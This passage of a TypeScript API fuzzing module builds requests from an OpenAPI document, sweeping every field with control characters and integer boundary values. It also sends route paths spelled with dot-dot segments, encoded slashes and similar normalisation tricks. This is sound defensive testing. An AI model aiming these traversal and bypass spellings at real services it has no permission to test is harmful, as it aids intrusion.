      for (const pair of [h.acceptLanguage, h.accept, h.other, h.authorization]) {
        if (pair === null) continue;
        headers[pair[0]] = pair[1];
        broken.push(`${pair[0]}: ${describe(pair[1])}`);
      }
      return { headers, broken };
    });
}

// ——— the request ———

/** Every request to one operation that one caller could send, good and (mostly) bad. */
export function requestArb(
  doc: OpenApiDocument,
  pools: FuzzPools,
  op: Operation,
  caller: Caller,
  origin: string,
): fc.Arbitrary<FuzzRequest> {
  const ctx: Ctx = { doc, pools };
  const pathNames = [...op.path.matchAll(/\{([^}]+)\}/g)].map((m) => m[1] ?? '');
  return fc
    .record({
      path: fc.tuple(...pathNames.map(() => pathParamArb(ctx))),
      query: queryArb(ctx, op),
      body: bodyArb(ctx, op),
      headers: headersArb(ctx, op, caller, origin),
    })
    .map(({ path, query, body, headers }) => {
      let i = 0;
      const broken: string[] = [];
      const pathname = op.path.replace(/\{[^}]+\}/g, () => {
        const p = path[i++];
        if (p?.broken) broken.push(p.broken);
        return p?.text ?? '';
      });
      broken.push(...query.broken, ...body.broken, ...headers.broken);
      const allHeaders = { ...headers.headers };
      if (body.contentType !== undefined) allHeaders['content-type'] = body.contentType;
      return {
        method: op.method,
        url: query.query ? `${pathname}?${query.query}` : pathname,
        headers: allHeaders,
        ...(body.payload === undefined ? {} : { payload: body.payload }),
        broken,
      };
    });
}

// ——— the sweep: every field and every spelling of every path, at the edges that once gave 500s ———

/*
 * The random requests above break one to three things at a time, a few times per route: a NUL in one
 * free-text field of one route, or 2^31 in one count, is a needle they rarely draw. The sweep is
 * exhaustive instead of random — every string and number the document describes, in bodies, query
 * strings and path parameters, gets each value below once (in an otherwise schema-shaped request) —
 * and every route is asked for under spellings of its path that a proxy or a router may normalise.
 */

/** Text that no column should take as is: NUL (PostgreSQL text cannot hold it), ESC, NEL (C1), CR/LF, a lone surrogate. */
export const CONTROL_TEXTS: readonly string[] = ['\u0000', '\u001b', '\u0085', '\r\n', '\uD800'];

/**
 * The edges of int4, safe integers and int8, the largest double and negative zero: a count or an amount
 * past what its column holds, or whose product with another leaves the safe range, must be a 400.
 */
export const BOUNDARY_NUMBERS: readonly string[] = [
  '2147483647',
  '2147483648',
  '-2147483648',
  '-2147483649',
  '9007199254740991',
  '9007199254740992',
  '9007199254740993',
  '-9007199254740993',
  '9223372036854775808',
  '-9223372036854775808',
  '1e308',
  '-0',
];

/** Puts a control text in the middle of a valid value, keeping its length where it can. */
function withControl(valid: string, control: string): string {
  // Code points, not UTF-16 units: splitting a pair would add a lone surrogate the request did not ask for.
  const points = Array.from(valid);
  const at = Math.floor(points.length / 2);
  return points.slice(0, at).join('') + control + points.slice(at + Array.from(control).length).join('');
}

/** A control text as a path or query value: percent-encoded; a lone surrogate as the bytes UTF-8 forbids. */
function encodeControl(text: string): string {
  return text
    .split('\uD800')
    .map((part) => encode(part))
    .join('%ED%A0%80');
}

/** Paths of the string and number leaves of a value (`[]` for a root that is one). */
function leavesOf(value: unknown): { path: Path; kind: 'string' | 'number' }[] {
  return pathsOf(value).flatMap((path): { path: Path; kind: 'string' | 'number' }[] => {
    let v: unknown = value;
    for (const p of path) v = (v as Record<string | number, unknown>)[p];
    if (typeof v === 'string') return [{ path, kind: 'string' }];
    if (typeof v === 'number') return [{ path, kind: 'number' }];
    return [];
  });
}

function setAt(value: unknown, path: Path, next: unknown): unknown {
  if (path.length === 0) return next;
  const root = clone(value);
  let parent: unknown = root;
  for (const p of path.slice(0, -1)) parent = (parent as Record<string | number, unknown>)[p];
  const last = path.at(-1) as string | number;
  if (Array.isArray(parent) && typeof last === 'number') parent[last] = next;
  else setKey(parent as Record<string, unknown>, String(last), next);
  return root;
}

/**
 * Spellings of a path that name the same route to a lenient router or proxy, or none at all: dot
 * segments, plain and percent-encoded, a doubled slash, an encoded slash, a trailing slash and an
 * encoded letter. Each must be answered as the path itself is, or refused with a 4xx.
 */
export function pathSpellings(pathname: string): { url: string; spelling: string }[] {
  const segments = pathname.split('/');
  // ['', 'api', 'v1', …]: the dot segments go after the first segment, ahead of the route's own.
  const head = `/${segments[1] ?? ''}`;
  const tail = segments.slice(2).join('/');
  const last = segments.at(-1) ?? '';
  const lastLetter = /[a-z]/.exec(last);
  const encodedLetter =
    lastLetter === null
      ? undefined
      : `${segments.slice(0, -1).join('/')}/${last.slice(0, lastLetter.index)}%${lastLetter[0].charCodeAt(0).toString(16)}${last.slice(lastLetter.index + 1)}`;
  const spellings = [
    { url: `${head}/x/../${tail}`, spelling: 'dot-dot segment' },
    { url: `${head}/./${tail}`, spelling: 'dot segment' },
    { url: `${head}/x/%2e%2e/${tail}`, spelling: 'encoded dot-dot segment' },
    { url: `${head}/%2E/${tail}`, spelling: 'encoded dot segment' },
    { url: `${head}//${tail}`, spelling: 'doubled slash' },
    { url: `${head}%2F${tail}`, spelling: 'encoded slash' },
    { url: pathname.endsWith('/') ? pathname.slice(0, -1) : `${pathname}/`, spelling: 'trailing slash' },
  ];
  if (encodedLetter !== undefined) spellings.push({ url: encodedLetter, spelling: 'encoded letter' });
  return spellings;
}

/** One swept request, and whether it is to be answered like the canonical request it spells differently. */
export type SweepRequest = FuzzRequest & { sameAs?: FuzzRequest };

/**
 * Every request of the sweep for one operation, in a fixed order: its valid shape drawn with `seed`,
 * then each string leaf with each control text, each number leaf with each boundary, each path and
 * query parameter the same way, and the path's spellings (each paired with the canonical request).
 */
export function sweepRequests(
  doc: OpenApiDocument,
  pools: FuzzPools,
  op: Operation,
  caller: Caller,
  origin: string,
  seed: number,
): SweepRequest[] {
  const ctx: Ctx = { doc, pools, complete: true };
  const draw = <T>(arb: fc.Arbitrary<T>, salt: number): T => {
    const [value] = fc.sample(arb, { seed: (seed + salt) | 0, numRuns: 1 });
    return value as T;
  };
  const ids = pools.ids;
  const pathNames = [...op.path.matchAll(/\{([^}]+)\}/g)].map((m) => m[1] ?? '');
  const pathValues = pathNames.map(
    (_, i) => ids[(seed + i * 7) % Math.max(ids.length, 1)] ?? crypto.randomUUID(),
  );
  const queryParams = op.parameters.filter((p) => p.in === 'query');
  const queryValues = queryParams.map((p, i) => paramText(draw(valueArb(ctx, p.schema ?? {}), 100 + i)));
  const headerParams = op.parameters.filter((p) => p.in === 'header');
  const headerValues = headerParams.map((p, i) =>
    paramText(draw(valueArb(ctx, p.schema ?? {}), 200 + i)).replace(/[^\u0020-\u007e]/g, '?'),
  );

  const headers: Record<string, string> = { origin };
  if (caller.cookie) headers.cookie = caller.cookie;
  headerParams.forEach((p, i) => {
    headers[p.name] = headerValues[i] ?? '';
  });

  const build = (parts: {
    path?: string[];
    query?: string[];
    body?: unknown;
    csv?: string;
    broken: string[];
  }): FuzzRequest => {
    let i = 0;
    const pathname = op.path.replace(/\{[^}]+\}/g, () => {
      const at = i++;
      return parts.path?.[at] ?? encode(pathValues[at] ?? '');
    });
    const query = (parts.query ?? queryValues.map((v) => encode(v)))
      .map((v, j) => `${encode(queryParams[j]?.name ?? '')}=${v}`)
      .join('&');
    const req: FuzzRequest = {
      method: op.method,
      url: query ? `${pathname}?${query}` : pathname,
      headers: { ...headers },
      broken: parts.broken,
    };
    if (parts.csv !== undefined) {
      req.headers['content-type'] = 'text/csv';
      req.payload = parts.csv;
    } else if (parts.body !== undefined) {
      req.headers['content-type'] = 'application/json';
      req.payload = toJson(parts.body);
    }
    return req;
  };

  const out: SweepRequest[] = [];
  const bodyFor = (salt: number): unknown =>
    op.body && op.body.mediaType !== 'text/csv' ? draw(valueArb(ctx, op.body.schema), salt) : undefined;
  const csvColumns = (() => {
    if (op.body?.mediaType !== 'text/csv') return undefined;
    const description = typeof op.body.schema.description === 'string' ? op.body.schema.description : '';
    return /([a-z_]+(?:,[a-z_]+)+)/.exec(description)?.[1]?.split(',');
  })();
  const csvRow = (salt: number): string[] =>
    (csvColumns ?? []).map((_, c) =>
      draw(fc.constantFrom(...(pools.strings.length > 0 ? pools.strings : ['x'])), salt * 31 + c),
    );
  const csvText = (row: string[]) =>
    [
      (csvColumns ?? []).join(','),
      row.map((v) => (/[",\r\n]/.test(v) ? `"${v.replaceAll('"', '""')}"` : v)).join(','),
    ].join('\n');

  // Text: each control text in every string leaf, a fresh schema-shaped body for each text.
  CONTROL_TEXTS.forEach((control, k) => {
    const body = bodyFor(300 + k);
    for (const leaf of leavesOf(body).filter((l) => l.kind === 'string')) {
      let valid: unknown = body;
      for (const p of leaf.path) valid = (valid as Record<string | number, unknown>)[p];
      const text = withControl(String(valid), control);
      out.push(
        build({
          body: setAt(body, leaf.path, text),
          broken: [`${leaf.path.join('.') || '(body)'} := ${describe(text)}`],
        }),
      );
    }
    if (csvColumns) {
      const row = csvRow(300 + k);
      row.forEach((cell, c) => {
        const next = [...row];
        next[c] = withControl(cell, control);
        out.push(
          build({ csv: csvText(next), broken: [`csv ${csvColumns[c]} := ${describe(next[c] ?? '')}`] }),
        );
      });
    }
    queryValues.forEach((v, j) => {
      const query = queryValues.map((q) => encode(q));
      query[j] = encodeControl(withControl(v, control));
      out.push(
        build({
          query,
          body: bodyFor(400 + k),
          broken: [`query ${queryParams[j]?.name} := ${describe(withControl(v, control))}`],
        }),
      );
    });
    pathValues.forEach((v, j) => {
      const path = pathValues.map((p) => encode(p));
      path[j] = encodeControl(withControl(v, control));
      out.push(
        build({
          path,
          body: bodyFor(500 + k),
          broken: [`path ${pathNames[j]} := ${describe(withControl(v, control))}`],
        }),
      );
    });
  });

  // Numbers: each boundary in every number leaf and in every numeric query parameter.
  BOUNDARY_NUMBERS.forEach((edge, k) => {
    const body = bodyFor(600 + k);
    for (const leaf of leavesOf(body).filter((l) => l.kind === 'number')) {
      out.push(
        build({
          body: setAt(body, leaf.path, new RawJson(edge)),
          broken: [`${leaf.path.join('.') || '(body)'} := ${edge}`],
        }),
      );
    }
    queryParams.forEach((p, j) => {
      const schema = resolve(ctx, p.schema ?? {});
      const types = Array.isArray(schema.type) ? (schema.type as string[]) : [schema.type];
      if (!types.includes('integer') && !types.includes('number')) return;
      const query = queryValues.map((q) => encode(q));
      query[j] = edge;
      out.push(build({ query, body: bodyFor(700 + k), broken: [`query ${p.name} := ${edge}`] }));
    });
  });

  // Spellings of the path: a body every schema refuses (or none), so that the canonical answer is a refusal
  // that changes nothing and a spelling that reaches another handler, or skips validation, stands out.
  const probe = {
    ...(op.body?.mediaType === 'text/csv' ? { csv: '' } : op.body ? { body: [] } : {}),
    broken: [] as string[],
  };
  const canonical = build(probe);
  const [canonicalPath, canonicalQuery] = canonical.url.split('?');
  for (const { url, spelling } of pathSpellings(canonicalPath ?? '')) {
    out.push({
      ...build({ ...probe, broken: [`path spelled ${url} (${spelling})`] }),
      url: canonicalQuery ? `${url}?${canonicalQuery}` : url,
      sameAs: canonical,
    });
  }
  return out;
}
